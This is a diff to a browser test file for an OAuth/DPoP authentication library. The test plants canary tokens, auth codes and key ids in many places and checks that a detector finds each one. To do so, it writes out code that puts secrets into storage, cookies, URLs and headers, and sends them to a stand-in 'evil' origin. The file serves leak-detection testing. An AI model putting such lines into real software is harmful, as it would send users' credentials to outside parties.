@@ -1,10 +1,14 @@
+import { decodeProtectedHeader } from 'jose'
 import { expect, test, type Planted } from '../fixture.js'
+import { proofIn } from '../words-dpop.js'
+import { stored } from '../words-session.js'
 
 const everywhere: Planted = {
   console: 'Here it is seen',
   error: 'that each of these places',
-  message: 'is looked at after',
-  history: 'every other test',
+  state: 'is looked at after',
+  message: 'every other test',
+  history: 'too',
   localStorage: 'too',
   sessionStorage: 'too',
   cookie: 'too',
@@ -15,10 +19,38 @@ const everywhere: Planted = {
   'authorization server': 'too',
 }
 
-test.describe('a secret', () => {
-  test.use({ planted: everywhere })
+/** The ways in which this test lets secrets out, and where each is to be found. */
+const ways = {
+  logged: 'console',
+  cause: 'error',
+  aggregate: 'error',
+  rejected: 'error',
+  claim: 'state',
+  channel: 'message',
+  port: 'message',
+  posted: 'message',
+  address: 'history',
+  entry: 'history',
+  set: 'localStorage',
+  assigned: 'localStorage',
+  session: 'sessionStorage',
+  cookie: 'cookie',
+  query: 'URL',
+  referer: 'Referer',
+  body: 'API',
+  header: 'API',
+  bearer: 'API',
+  path: 'another origin',
+  sent: 'another origin',
+  asked: 'authorization server',
+} as const
 
-  test('is found wherever a page or a server has got it and should not', async ({
+type Way = keyof typeof ways
+
+test.describe('a secret', () => {
+  test.use({ planted: everywhere, options: { dpop: true } })
+
+  test('of each kind, tokens, code, verifier and names of keys, is found wherever a page or a server has got it and should not', async ({
     app,
     api,
     servers,
@@ -28,24 +60,63 @@ test.describe('a secret', () => {
   }) => {
     await app.open()
     await app.signIn()
+    await app.fetch(`${api.url}me`)
+    await app.refresh()
+    await app.attempt(() => window.auth.userInfo())
     expect(canaries.found({}, undefined)).toEqual([])
-    const places = [servers.evil.origin, api.url, `${server.issuer}/userinfo`] as const
-    await app.attempt(async ([evil, own, userinfo]: typeof places) => {
-      const token = await window.auth.getAccessToken()
-      console.info({ found: [token] })
-      new BroadcastChannel('theirs').postMessage({ token })
-      localStorage.setItem('theirs', token)
-      sessionStorage.setItem('pixy-auth:session:theirs', token)
-      document.cookie = `theirs=${token}`
-      await fetch(`${own}?token=${token}`)
-      await fetch(`${userinfo}?token=${token}`).catch(() => {})
-      history.replaceState(null, '', `/?code=${token}`)
+
+    const [exchange] = server.requests('token')
+    const { code = '', code_verifier = '' } = exchange!.params
+    const { refreshToken = '', idToken = '' } = (await stored(app)) as { idToken?: string } & {
+      refreshToken?: string
+    }
+    const token = (await app.token()).value ?? ''
+    const kid = decodeProtectedHeader(idToken).kid ?? ''
+    const jkt = (await proofIn(exchange!))?.jkt ?? ''
+    const secrets = { idToken, token, refreshToken, code, code_verifier, jkt, kid }
+    // The last one tells the way.
+    const all = Object.fromEntries(
+      Object.keys(ways).map((way) => [way, [...Object.values(secrets), way, kid].join('~')]),
+    ) as Record<Way, string>
+
+    server.fail('userinfo', { body: (json) => ({ ...json, claim: all.claim }) })
+    const places = [all, servers.evil.origin, api.url, server.issuer] as const
+    await app.attempt(async ([leak, evil, own, issuer]: typeof places) => {
+      await window.auth.userInfo()
+      console.info({ found: [leak.logged] })
+      new BroadcastChannel('theirs').postMessage({ it: leak.channel })
+      new MessageChannel().port1.postMessage(leak.port)
+      window.postMessage([leak.posted], location.origin)
+      localStorage.setItem('theirs', leak.set)
+      localStorage['mine'] = leak.assigned
+      sessionStorage.setItem('pixy-auth:session:theirs', leak.session)
+      document.cookie = `theirs=${leak.cookie}`
+      await fetch(`${own}?${leak.query}`)
+      await fetch(own, { method: 'POST', body: leak.body })
+      await fetch(own, { headers: { 'x-test': leak.header } })
+      // Any other token than an access token.
+      await fetch(own, { headers: { authorization: `Bearer ${leak.bearer}` } })
+      await fetch(`${evil}/${leak.path}`)
+      await fetch(evil, { method: 'POST', body: leak.sent })
+      await fetch(`${issuer}/userinfo?token=${leak.asked}`).catch(() => {})
+      history.replaceState(null, '', `/?${leak.referer}`)
       await fetch(own, { referrerPolicy: 'unsafe-url' })
-      await fetch(`${evil}/${token}`)
-      throw new Error('outer', { cause: new Error('inner', { cause: token }) })
+      history.replaceState({ it: leak.entry }, '', `/?code=${leak.address}`)
+      void Promise.reject(new Error('outer', { cause: { it: leak.rejected } }))
+      const inner = new Error('inner', { cause: leak.cause })
+      throw new AggregateError([leak.aggregate, inner], 'outer', { cause: inner })
     }, places)
     await canaries.look(context)
-    const found = canaries.found({}, undefined).map((one) => one.split(':')[0] ?? '')
-    expect([...new Set(found)].toSorted()).toEqual(Object.keys(everywhere).toSorted())
+
+    const found = canaries.found({}, undefined)
+    const seen = (mark: string, place: string): boolean =>
+      found.some((one) => one.startsWith(`${place}: `) && one.includes(mark))
+    for (const [way, place] of Object.entries(ways))
+      expect.soft(seen(`${way}~${kid}`, place), `${way} in ${place}`).toBe(true)
+    for (const [kind, secret] of Object.entries(secrets)) {
+      const mark = (secret.split('.')[2] ?? secret).slice(0, 24)
+      const places = Object.keys(everywhere).filter((place) => seen(mark, place))
+      expect.soft(places, kind).toEqual(Object.keys(everywhere))
+    }
   })
 })
